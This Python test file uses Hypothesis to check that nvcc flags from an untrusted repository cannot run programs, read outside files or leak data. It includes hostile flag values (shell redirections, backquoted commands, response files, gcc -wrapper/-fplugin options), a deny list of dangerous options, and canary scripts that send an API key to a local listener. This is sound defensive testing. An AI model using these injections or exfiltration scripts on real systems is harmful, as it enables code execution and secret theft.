"""Properties of the trust boundary, over flag lists that Hypothesis generates from nvcc's, gcc's
and ptxas' option grammars: each option in its spellings (`-x v`, `-x=v`, glued, comma lists,
`-Xcompiler`/`-Xptxas` word lists), with values a hostile repository would pick (response files
`@file`, shell metacharacters, quotes and blanks, look-alike dashes, `..`, folders that are links
out of the repository), sometimes for two architectures (where nvcc would have run one command
through /bin/sh). Whatever a repository's kernelblaster.toml holds, before trust:

- the allow-list's words are plain (`test_accepted_flags_are_plain_words`, pure, many examples);
- nvcc's own steps for an accepted list give gcc, ptxas and the linker no response file, no
  program, plugin or file to read options from, and no include folder outside the repository
  (`test_nvccs_steps_for_accepted_flags_name_nothing_outside`: real `nvcc --dryrun`);
- a real build runs nothing, reads nothing outside, writes nothing outside its build folder and
  sends nothing (`test_a_build_before_trust_runs_reads_writes_and_sends_nothing`: real nvcc,
  canaries: a fake `sh`/`bash`/`dash` first on PATH, fake compilers in the repository, a header
  outside it that fails the build when read, a seeded KB, a listener on 127.0.0.1).

Examples are derandomized and few where nvcc runs, so CI pays a bounded few tens of seconds;
the pure property takes many."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shlex
import shutil
import socket
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from kernelblaster.harness.build.nvcc import BuildSpec, build
from kernelblaster.settings import UntrustedConfigError, load_settings
from kernelblaster.trust import TRUST_ENV

PROPERTY = settings(
    deadline=None,
    derandomize=True,  # the same examples on every run: CI's cost and verdict are fixed
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
SECRET = "sk-canary-0123456789"

# --- the grammars ------------------------------------------------------------------------------

# Values a hostile repository's author would try: a shell's metacharacters, response files,
# quotes, blanks and backslashes, look-alike dashes and other non-ASCII, folders.
SHELLISH = [">{kb}", ";>{canary}", "|tee", "&", "<(touch{canary})", "(1<<20)", "*", "~", "!", "#"]
RESPONSE_FILES = ["@inc.rsp", "@opts.txt", "@/etc/hostname"]
UNPLAIN = ['"', "'", "\\", "$HOME", "`id`", " -B{home}", "\n#$ touch {canary}", "\u00a0", "\u2013"]
FOLDERS = [
    "include",
    "./include",
    "sub/inner",  # a link inside the repository to include/
    "inc",  # a link out of the repository, to the user's keys
    "inc/.",
    "inc/..",
    "../out",
    "{home}/secret",
    "{repo}/inc",
    "{repo}/include",
]
word = st.text(alphabet="abcxyzXYZ_019", min_size=1, max_size=6)
name = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,5}", fullmatch=True)
hostile_value = st.one_of(
    word,
    st.sampled_from(SHELLISH),
    st.sampled_from(RESPONSE_FILES),
    st.sampled_from(UNPLAIN),
    st.sampled_from(FOLDERS),
)
macro = st.builds("{}={}".format, name, st.one_of(word, hostile_value))


def spelled(names: list[str], value: st.SearchStrategy[str], glued: bool = False):
    """An option with its value, in each spelling nvcc (or the tool) reads."""
    forms = [
        st.tuples(st.sampled_from(names), value).map(list),
        st.tuples(st.sampled_from(names), value).map(lambda nv: [f"{nv[0]}={nv[1]}"]),
    ]
    if glued:
        forms.append(st.tuples(st.sampled_from(names[:1]), value).map(lambda nv: ["".join(nv)]))
    return st.one_of(forms)


gcc_word = st.one_of(
    st.sampled_from(["-O2", "-Wall", "-fopenmp", "-march=native", "-w", "-g"]),
    macro.map(lambda m: f"-D{m}"),
    st.sampled_from(["-B", "-fplugin=", "-specs=", "-wrapper,", "-include,", "--sysroot="]).flatmap(
        lambda option: hostile_value.map(lambda value: option + value)
    ),
    st.sampled_from(["-Wl,-rpath,{home}", "-Wp,-MF,{home}/x", "-save-temps=obj", "-o,{home}/x"]),
    st.sampled_from(RESPONSE_FILES),
)
ptxas_word = st.one_of(
    st.sampled_from(["-v", "-O3", "--maxrregcount=32", "-dlcm=ca", "--warn-on-spills"]),
    st.sampled_from(["--options-file=", "-optf,", "-o,", "--output-file="]).flatmap(
        lambda option: hostile_value.map(lambda value: option + value)
    ),
    st.sampled_from(RESPONSE_FILES),
)
TWO_ARCHS = ["-gencode", "arch=compute_80,code=sm_80", "-gencode", "arch=compute_90,code=sm_90"]
nvcc_group = st.one_of(
    # allowed options, hostile values in their slots
    spelled(["-D", "--define-macro"], st.one_of(macro, hostile_value), glued=True),
    spelled(["-I", "--include-path"], st.one_of(st.sampled_from(FOLDERS), hostile_value), True),
    spelled(["-isystem", "--system-include"], st.one_of(st.sampled_from(FOLDERS), hostile_value)),
    spelled(["-O", "--optimize"], st.sampled_from(["0", "3"]), glued=True),
    spelled(["-l", "--library"], st.one_of(st.just("cublas"), hostile_value), glued=True),
    spelled(
        ["-Xcompiler", "--compiler-options"],
        st.lists(gcc_word, min_size=1, max_size=3).map(",".join),
    ),
    spelled(
        ["-Xptxas", "--ptxas-options"], st.lists(ptxas_word, min_size=1, max_size=3).map(",".join)
    ),
    st.just(TWO_ARCHS),
    st.sampled_from([["-lineinfo"], ["--use_fast_math"], ["-std=c++17"], ["-res-usage"]]),
    # options that name programs, read files or write elsewhere
    spelled(["-ccbin", "--compiler-bindir"], st.sampled_from(["tools", "{home}/fakebin"])),
    spelled(["--options-file", "-optf"], st.sampled_from(["opts.txt", "inc.rsp"])),
    spelled(["-Xlinker", "--linker-options"], st.sampled_from(["-plugin={home}/p.so"])),
    spelled(["-L", "--library-path"], st.sampled_from(FOLDERS), glued=True),
    spelled(["-o", "--output-file", "-odir", "--keep-dir", "-MF"], st.just("{home}/out/x")),
    st.sampled_from([["-run"], ["-include", "x.h"], ["\u2013ccbin", "tools"], ["-CCBIN=tools"]]),
)
# Allowed options with the values of theirs that pass (a shell's metacharacters among them):
# these build, for two architectures at times, where nvcc would have used its shell
shellish_macro = st.builds("{}={}".format, name, st.one_of(word, st.sampled_from(SHELLISH)))
allowed_group = st.one_of(
    spelled(["-D", "--define-macro"], shellish_macro, glued=True),
    spelled(["-Xcompiler"], shellish_macro.map(lambda m: f"-D{m}")),
    spelled(["-I", "-isystem"], st.sampled_from(["include", "./include", "sub/inner"])),
    st.just(TWO_ARCHS),
)


def _joined(groups: list[list[str]]) -> list[str]:
    return [word for group in groups for word in group]


flag_lists = st.lists(nvcc_group, min_size=1, max_size=5).map(_joined)
# for the builds: mostly what passes the allow-list, with a hostile group among it at times
leaning_lists = st.lists(
    st.integers(0, 4).flatmap(lambda pick: nvcc_group if pick == 0 else allowed_group),
    min_size=1,
    max_size=3,
).map(_joined)


# --- the world: a fake home with a seeded KB, a hostile repository, canaries ---------------------


class Listener:
    """A TCP listener on 127.0.0.1 that keeps what every connection sends."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                with connection:
                    connection.settimeout(5)
                    self.received.append(connection.recv(4096))

    def close(self) -> None:
        self._socket.close()


class World:
    """A user (fake HOME: trust list, KB) and a cloned repository full of traps; every canary
    leaves a marker named `ran-*` in `home` and tries to send the API key to `listener`."""

    def __init__(self, root: Path, listener: Listener) -> None:
        self.listener = listener
        self.home, self.repo = root / "home", root / "repo"
        self.kb = self.home / "data-home" / "kernelblaster" / "kb.sqlite3"
        self.kb.parent.mkdir(parents=True)
        self.kb.write_bytes(b"SQLite format 3\x00" + bytes(range(256)) * 64)
        self.kb_bytes = self.kb.read_bytes()
        (self.repo / ".git").mkdir(parents=True)
        (self.repo / "include").mkdir()
        (self.repo / "include" / "ok.h").write_text("#define OK 1\n")
        (self.repo / "sub").mkdir()
        (self.repo / "sub" / "inner").symlink_to("../include")
        (self.home / "secret").mkdir()
        # read only through a folder outside the repository: the build then fails saying so
        (self.home / "secret" / "key.h").write_text("#error READ_OUTSIDE_THE_REPOSITORY\n")
        (self.repo / "inc").symlink_to(self.home / "secret")
        (self.repo / "k.cu").write_text(
            '#if __has_include("key.h")\n#include "key.h"\n#endif\n'
            "__global__ void k(float* y) { y[0] = 1.0f; }\n"
        )
        (self.repo / "x.h").write_text("#define X 1\n")
        (self.repo / "opts.txt").write_text("-ccbin tools\n")
        (self.repo / "inc.rsp").write_text("include -wrapper ./tools/fmt.sh\n")
        sends = (
            "import socket, os; "
            f"s = socket.create_connection(('127.0.0.1', {listener.port})); "
            "s.sendall(os.environ.get('OPENAI_API_KEY', '').encode())"
        )
        send = f'{sys.executable} -c "{sends}" 2>/dev/null'
        canary = '#!/bin/sh\ntouch "{marker}"\n{send}\nexec {real} "$@"\n'
        (self.repo / "tools").mkdir()
        for name in ("gcc", "g++", "cc1plus", "as", "ld", "fmt.sh"):
            real = shutil.which(name) or "/bin/false"
            self._script(self.repo / "tools" / name, canary, real=real, send=send)
        for name in ("sh", "bash", "dash"):  # first on PATH: a shell looked up by name
            self._script(self.home / "fakebin" / name, canary, real="/bin/sh", send=send)

    def _script(self, path: Path, template: str, **fields: str) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(template.format(marker=self.home / f"ran-{path.name}", **fields))
        path.chmod(0o755)

    def fill(self, flags: list[str]) -> list[str]:
        fields = {"home": self.home, "repo": self.repo, "kb": self.kb, "canary": self.home / "c"}
        return [flag.format(**fields) for flag in flags]

    def snapshot(self, *, leaving_out: Path) -> dict[str, tuple]:
        """Every file and link under home and the repository, but the build folder."""
        found = {}
        for top in (self.home, self.repo):
            for folder, dirs, files in os.walk(top):
                dirs[:] = [d for d in dirs if Path(folder, d) != leaving_out]
                for name in [*files, *dirs]:
                    path = Path(folder, name)
                    info = path.lstat()
                    found[str(path)] = (info.st_mode, info.st_size, info.st_mtime_ns)
        return found


@pytest.fixture
def world(tmp_path, monkeypatch) -> Iterator[World]:
    listener = Listener()
    world = World(tmp_path, listener)
    for name in ("CONFIG", "CACHE", "DATA"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(world.home / f"{name.lower()}-home"))
    monkeypatch.setenv(TRUST_ENV, "0")
    for name in [n for n in os.environ if n.startswith("KERNELBLASTER_") and n != TRUST_ENV]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("PATH", f"{world.home / 'fakebin'}{os.pathsep}{os.environ['PATH']}")
    yield world
    listener.close()


def _configure(world: World, flags: list[str]) -> None:
    """The repository's kernelblaster.toml, holding `flags`."""
    toml = f"nvcc_flags = {json.dumps(world.fill(flags))}\n"
    (world.repo / "kernelblaster.toml").write_text(toml, encoding="utf-8")


def _settings(world: World):
    """The repository's settings, or None when refused before trust."""
    try:
        return load_settings(world.repo / "k.cu")
    except UntrustedConfigError:
        return None


def _configured(world: World, flags: list[str]):
    _configure(world, flags)
    return _settings(world)


# --- the properties ----------------------------------------------------------------------------

_PLAIN = re.compile(r"[!#%&()*+,\-./0-9:;<=>?A-Z\[\]^_a-z{|}~]*")


def test_accepted_flags_are_plain_words(world):
    """No response file, blank, quote, backslash, `$`, backquote or non-ASCII character passes
    without trust, in any spelling; and the generator reaches both sides."""
    seen: Counter[bool] = Counter()

    @settings(PROPERTY, max_examples=400)
    @given(flags=flag_lists)
    def accepted_are_plain(flags: list[str]) -> None:
        configured = _configured(world, flags)
        seen[configured is not None] += 1
        if configured is not None:
            assert [w for w in configured.nvcc_flags if not _PLAIN.fullmatch(w)] == []

    accepted_are_plain()
    assert seen[True] >= 20 and seen[False] >= 100, seen


# What gcc, the linker and ptxas must never get from a repository before trust: a response
# file, a program, plugin, specs or sysroot, another file of options, an output of its own.
_NEVER = (
    "@", "-B", "-wrapper", "-fplugin", "-specs", "-Wl,", "-Wp,", "-Wa,", "-Xlinker",
    "-Xassembler", "-Xpreprocessor", "--sysroot", "-isysroot", "-imacros", "-iquote",
    "-idirafter", "-save-temps", "-dumpdir", "-MF", "--options-file", "-optf", "-L", "-T",
    "-plugin", "-ccbin", "--compiler-bindir", "-o", "--output-file",
)  # fmt: skip


def _steps(flags: list[str], repo: Path) -> list[list[str]] | None:
    """The argument vectors of nvcc's steps for a shared library of k.cu with `flags`."""
    command = ["nvcc", "--dryrun", "-keep", "-keep-dir=build", "-shared", "-Xcompiler", "-fPIC"]
    archs = [] if "-gencode" in flags else ["-arch=sm_90"]
    listed = subprocess.run(
        [*command, *archs, *flags, "-o", "build/k.so", "k.cu"],
        cwd=repo,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,  # where nvcc lists its steps
        text=True,
        timeout=60,
    )
    if listed.returncode != 0:
        return None  # nvcc refuses the command itself: no step runs
    lines = [line[3:] for line in listed.stdout.splitlines() if line.startswith("#$ ")]
    return [shlex.split(line) for line in lines if not re.match(r"[A-Za-z_]\w*=", line)]


def _include_folders(words: list[str]) -> Iterator[str]:
    for position, word in enumerate(words):
        if word in ("-I", "-isystem") and position + 1 < len(words):
            yield words[position + 1]
        elif word.startswith("-I") and len(word) > 2:
            yield word[2:]


@pytest.mark.nvcc
def test_nvccs_steps_for_accepted_flags_name_nothing_outside(world):
    """nvcc itself says what its tools get: for every accepted list, the words nvcc adds to its
    steps' command lines (beyond its own for no flags) hold no response file and no option of
    `_NEVER`, and every include folder they add is inside the repository, links followed."""
    own_steps = _steps([], world.repo) or []
    baseline = {word for step in own_steps for word in step}
    own_folders = {folder for step in own_steps for folder in _include_folders(step)}
    assert baseline and own_folders, "nvcc listed no steps"
    checked = []

    @settings(PROPERTY, max_examples=150)
    @given(flags=flag_lists)
    def steps_name_nothing_outside(flags: list[str]) -> None:
        configured = _configured(world, flags)
        if configured is None:
            return
        steps = _steps(configured.nvcc_flags, world.repo)
        if steps is None:
            return
        checked.append(configured.nvcc_flags)
        added = [word for step in steps for word in step if word not in baseline]
        assert [word for word in added if word.startswith(_NEVER)] == []
        folders = {folder for step in steps for folder in _include_folders(step)} - own_folders
        for folder in folders:
            assert (world.repo / folder).resolve().is_relative_to(world.repo.resolve()), folder

    steps_name_nothing_outside()
    assert len(checked) >= 15, checked


@pytest.mark.nvcc
def test_a_build_before_trust_runs_reads_writes_and_sends_nothing(world):
    """Every generated configuration, untrusted, through the harness's real build: a canary
    program never runs (no fake shell, no repository compiler or wrapper), the header outside
    the repository is never read, nothing outside the build folder changes (the seeded KB keeps
    its bytes) and the listener hears nothing. Accepted lists do build (the sample has some)."""
    built: list[bool] = []
    shell_would_have_run: list[bool] = []  # built for two architectures, shell syntax in a value

    @settings(PROPERTY, max_examples=12)
    @given(flags=leaning_lists)
    # the spellings, always among the examples: a redirection onto the KB, more shell
    @example(flags=["-Xcompiler", "-DKB_TUNE=>{kb}", *TWO_ARCHS])
    @example(flags=["-DN=(1<<20)", "-Xcompiler", "-DB=;>{canary},-DC=|tee", *TWO_ARCHS])
    @example(flags=["-isystem", "@inc.rsp"])
    @example(flags=["-Iinc"])
    def nothing_happens(flags: list[str]) -> None:
        builds = world.home / "cache-home"  # the build folders, one per example
        cache = builds / f"build-{len(built)}"
        _configure(world, flags)
        before = world.snapshot(leaving_out=builds)
        configured = _settings(world)
        if configured is not None:
            spec = BuildSpec(
                source=str(world.repo / "k.cu"),
                output_kind="shared",
                flags=configured.nvcc_flags,
            )
            result = build(spec, configured.merged({"arch": "sm_90"}), cache_dir=cache)
            built.append(result.ok)
            shellish = any(set(w) & set("<>;|&()*~!#") for w in configured.nvcc_flags)
            shell_would_have_run.append(result.ok and shellish and "-gencode" in flags)
            assert "READ_OUTSIDE_THE_REPOSITORY" not in json.dumps(
                [d.message for d in result.diagnostics]
            ) + (result.error.log if result.error else "")
        assert sorted(world.home.glob("ran-*")) == []
        assert not (world.home / "c").exists() and not (world.home / "out").exists()
        assert world.kb.read_bytes() == world.kb_bytes
        assert world.snapshot(leaving_out=builds) == before
        assert {path.name for path in builds.glob("*")} <= {f"build-{n}" for n in range(99)}
        assert world.listener.received == []

    nothing_happens()
    assert sum(built) >= 5 and any(shell_would_have_run), (built, shell_would_have_run)
